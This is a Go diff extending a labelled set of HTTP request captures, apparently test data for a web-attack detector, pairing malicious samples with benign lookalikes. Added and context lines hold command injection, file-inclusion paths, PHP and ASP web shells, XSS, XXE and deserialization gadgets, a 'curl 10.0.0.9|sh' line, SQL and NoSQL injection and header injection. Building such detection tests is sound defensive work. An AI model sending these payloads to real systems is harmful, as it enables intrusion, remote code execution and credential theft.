@@ -127,6 +127,7 @@ func captures() []toolCapture {
 		"127.0.0.1 | findstr /s password *.txt",
 		"127.0.0.1\nwhoami",
 		"127.0.0.1 ; ping -c 3 10.0.0.9",
+		"127.0.0.1 & timeout /t 10",
 	} {
 		cs = append(cs, form("cmdexe", true, exec, "ip", p))
 	}
@@ -165,6 +166,9 @@ func captures() []toolCapture {
 		"\\\\10.0.0.9\\share\\x.php",
 		"ftp://10.0.0.9/x.txt",
 		"php://input",
+		"//10.0.0.9/share/x.php",
+		"/WEB-INF/web.xml",
+		"..\\WEB-INF\\classes\\db.properties",
 	} {
 		cs = append(cs, get("lfi", true, fi, "page", p))
 	}
@@ -188,6 +192,7 @@ func captures() []toolCapture {
 		{"shell.phar", "application/octet-stream", "<?php __HALT_COMPILER(); system('id');"},
 		{"x.asp", "image/png", "<% eval request(\"x\") %>"},
 		{"cmd.png", "image/png", "<?php\r\npassthru($_GET['c']);\r\n"},
+		{"x.html", "text/html", "<img src=x onerror=alert(document.domain)>"},
 	} {
 		cs = append(cs, upload(true, u.name, u.ctype, u.content))
 	}
@@ -196,6 +201,7 @@ func captures() []toolCapture {
 		{"photo.jpg", "image/jpeg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"},
 		{"notes.txt", "text/plain", "Shopping list: milk, eggs, bread.\n"},
 		{"report.pdf", "application/pdf", "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"},
+		{"notes.html", "text/html", "<h1>Notes</h1><p>Bring <b>cake</b> &amp; <a href=\"https://example.com/menu\">the menu</a>.</p>"},
 	} {
 		cs = append(cs, upload(false, u.name, u.ctype, u.content))
 	}
@@ -334,6 +340,13 @@ func captures() []toolCapture {
 	other("POST", "/soap", `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % remote SYSTEM "http://10.0.0.9/x.dtd">%remote;]><d>1</d>`, [2]string{"Content-Type", "text/xml"})
 	other("POST", "/api/import", `<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://10.0.0.9/oob.dtd"><foo>&e1;</foo>`, [2]string{"Content-Type", "application/xml"})
 	other("POST", "/scriptText", "script="+url.QueryEscape(`def p = ['bash','-c','curl 10.0.0.9|sh'].execute(); p.waitFor()`), [2]string{"Content-Type", "application/x-www-form-urlencoded"})
+	other("GET", "/account", "", [2]string{"Cookie", "JSESSIONID=1A2B3C; remember=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="})
+	other("POST", "/api/order", `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://10.0.0.9:1389/Basic/Command/id","autoCommit":true}`, [2]string{"Content-Type", "application/json"})
+	other("POST", "/api/import", `{"item":{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}}`, [2]string{"Content-Type", "application/json"})
+	other("POST", "/api/import", `<?xml version="1.0"?><order xmlns:xi="http://www.w3.org/2001/XInclude"><note><xi:include parse="text" href="http://10.0.0.9/x"/></note></order>`, [2]string{"Content-Type", "application/xml"})
+	other("POST", "/api/items", `<?xml version="1.0"?><items><item id="1' union select password from users--">x</item></items>`, [2]string{"Content-Type", "application/xml"})
+	other("GET", "/redirect?to=%0d%0aSet-Cookie:%20session=attacker", "")
+	other("POST", "/login", `{"username":"admin","password":{"$ne":null}}`, [2]string{"Content-Type", "application/json"})
 	benign := func(method, target, body string, headers ...[2]string) {
 		cs = append(cs, toolCapture{"other", false, method, target, headers, body})
 	}
@@ -345,6 +358,11 @@ func captures() []toolCapture {
 	benign("POST", "/api/drawings", `<?xml version="1.0" encoding="utf-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;" width="10" height="10"><rect width="10" height="10"/></svg>`, [2]string{"Content-Type", "application/xml"})
 	benign("POST", "/feed", `<?xml version="1.0"?><rss version="2.0"><channel><title>News</title><item><title>Select the best of 2026</title><link>https://news.example/a?x=1&amp;y=2</link></item></channel></rss>`, [2]string{"Content-Type", "text/xml"})
 	benign("POST", "/api/notes", `{"text":"Call cursor.execute(query) once per batch, then commit."}`, [2]string{"Content-Type", "application/json"})
+	benign("POST", "/api/events", `{"@context":"https://schema.org","@type":"Event","name":"Java 21 meetup","location":{"@type":"Place","name":"com.example office"}}`, [2]string{"Content-Type", "application/json"})
+	benign("POST", "/api/errors", `{"error":{"details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"RATE_LIMIT"}]}}`, [2]string{"Content-Type", "application/json"})
+	benign("POST", "/api/drawings", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"><path d="M0 0 L10 10 Z" style="fill:#fff;stroke:none"/><a xlink:href="#top"><text x="1" y="2" font-family="Arial, sans-serif">Select all &amp; drop</text></a></svg>`, [2]string{"Content-Type", "application/xml"})
+	benign("GET", "/account", "", [2]string{"Cookie", "JSESSIONID=1A2B3C; prefs=eyJ0aGVtZSI6ImRhcmsifQ==; token=AbrO0ABxyz"})
+	benign("GET", "/docs?path=guide/deploy/web-inf-layout.html", "")
 
 	for i := range cs {
 		cs[i].category = "captures/" + cs[i].category
